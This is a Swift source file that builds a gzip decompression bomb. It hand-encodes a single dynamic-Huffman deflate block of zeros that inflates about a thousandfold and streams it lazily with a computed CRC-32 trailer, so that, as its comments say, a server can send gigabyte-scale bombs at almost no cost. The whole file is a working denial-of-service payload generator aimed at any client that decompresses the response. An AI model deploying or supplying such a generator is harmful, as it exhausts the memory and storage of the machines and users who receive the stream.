import Foundation

/// A gzip stream of zeros that inflates about 1,032 times: one dynamic-Huffman deflate block whose only length code
/// (258, the longest match) and only distance code (1) are one bit each, so every two bits of input copy 258 bytes.
/// Written out lazily, it needs no memory: after a 24-byte head it is zero bytes until the end-of-block code and the
/// trailer (CRC-32 and size of the whole output), so a bomb of gigabytes costs the server nothing to send.
struct GzipBomb: Sendable {
    /// Matches of 258 bytes after the first literal zero.
    let matches: UInt64

    /// A bomb inflating to `size` bytes or the nearest size below of the form 1 + 258·k.
    init(expandingTo size: UInt64) {
        matches = size > 0 ? (size - 1) / 258 : 0
    }

    /// How many bytes it inflates to.
    var expandedSize: UInt64 { 1 + 258 * matches }

    /// How many bytes the gzip stream has: its header, the deflate block, the trailer.
    var compressedSize: Int { 10 + Int((UInt64(GzipBomb.headerBits.count) + 2 * matches + 2 + 7) / 8) + 8 }

    /// The deflate block's header and first literal, as bits in stream order.
    static let headerBits: [UInt8] = {
        var bits: [UInt8] = []
        func field(_ value: Int, _ width: Int) { for bit in 0..<width { bits.append(UInt8((value >> bit) & 1)) } }
        func code(_ value: Int, _ width: Int) { for bit in (0..<width).reversed() { bits.append(UInt8((value >> bit) & 1)) } }
        field(1, 1); field(2, 2)  // last block, dynamic Huffman codes
        field(286 - 257, 5); field(1 - 1, 5); field(18 - 4, 4)  // 286 literal/length codes, 1 distance code, 18 code-length codes
        let order = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1]
        let codeLengthLengths = [18: 1, 1: 2, 2: 2]
        for symbol in order { field(codeLengthLengths[symbol] ?? 0, 3) }
        // Code-length codes: 18 → 0, 1 → 10, 2 → 11. Lengths: literal 0 and end-of-block 2 bits, length 258 one bit,
        // distance 1 one bit, all others absent (runs of zeros).
        let one = (2, 2), two = (3, 2)
        code(two.0, two.1)                                   // literal 0: length 2
        code(0, 1); field(138 - 11, 7); code(0, 1); field(117 - 11, 7)  // literals 1–255: 255 zeros
        code(two.0, two.1)                                   // 256 (end of block): length 2
        code(0, 1); field(28 - 11, 7)                        // 257–284: 28 zeros
        code(one.0, one.1)                                   // 285 (length 258): length 1
        code(one.0, one.1)                                   // distance code 0 (distance 1): length 1
        code(2, 2)                                           // data: literal 0 (code 10); each match after it is 00
        return bits
    }()

    /// The whole stream in pieces of at most `chunk` bytes, made as they are asked for.
    func chunks(of chunk: Int = 64 << 10) -> AnySequence<Data> {
        let header = Data([0x1F, 0x8B, 0x08, 0x00, 0, 0, 0, 0, 0x00, 0xFF])
        let headBits = GzipBomb.headerBits
        let end = UInt64(headBits.count) + 2 * matches  // where the end-of-block code (11) starts
        let totalBytes = (end + 2 + 7) / 8
        func byte(_ index: UInt64) -> UInt8 {
            var value: UInt8 = 0
            for bit in 0..<8 {
                let position = index * 8 + UInt64(bit)
                let set = position < UInt64(headBits.count) ? headBits[Int(position)] == 1 : position == end || position == end + 1
                if set { value |= 1 << UInt8(bit) }
            }
            return value
        }
        var trailer = Data()
        withUnsafeBytes(of: GzipBomb.crc32OfZeros(expandedSize).littleEndian) { trailer.append(contentsOf: $0) }
        withUnsafeBytes(of: UInt32(truncatingIfNeeded: expandedSize).littleEndian) { trailer.append(contentsOf: $0) }
        let headBytes = UInt64(headBits.count + 7) / 8, tailStart = max(headBytes, end / 8)
        var next: UInt64 = 0, sentHeader = false, sentTrailer = false
        return AnySequence(AnyIterator {
            if !sentHeader { sentHeader = true; return header + Data((0..<headBytes).map(byte)) }
            if next < tailStart - headBytes {
                let count = min(UInt64(chunk), tailStart - headBytes - next)
                next += count
                return Data(count: Int(count))
            }
            guard !sentTrailer else { return nil }
            sentTrailer = true
            return Data((tailStart..<totalBytes).map(byte)) + trailer
        })
    }

    /// CRC-32 (IEEE, reflected) of `count` zero bytes, by squaring the one-zero-byte operator over GF(2).
    static func crc32OfZeros(_ count: UInt64) -> UInt32 {
        typealias Matrix = [UInt32]
        func apply(_ matrix: Matrix, _ vector: UInt32) -> UInt32 {
            var sum: UInt32 = 0, vector = vector, row = 0
            while vector != 0 {
                if vector & 1 != 0 { sum ^= matrix[row] }
                vector >>= 1
                row += 1
            }
            return sum
        }
        func square(_ matrix: Matrix) -> Matrix { matrix.map { apply(matrix, $0) } }
        var power: Matrix = [0xEDB8_8320] + (0..<31).map { UInt32(1) << $0 }  // one zero bit
        for _ in 0..<3 { power = square(power) }  // one zero byte
        var register: UInt32 = 0xFFFF_FFFF, remaining = count
        while remaining > 0 {
            if remaining & 1 != 0 { register = apply(power, register) }
            remaining >>= 1
            if remaining > 0 { power = square(power) }
        }
        return register ^ 0xFFFF_FFFF
    }
}
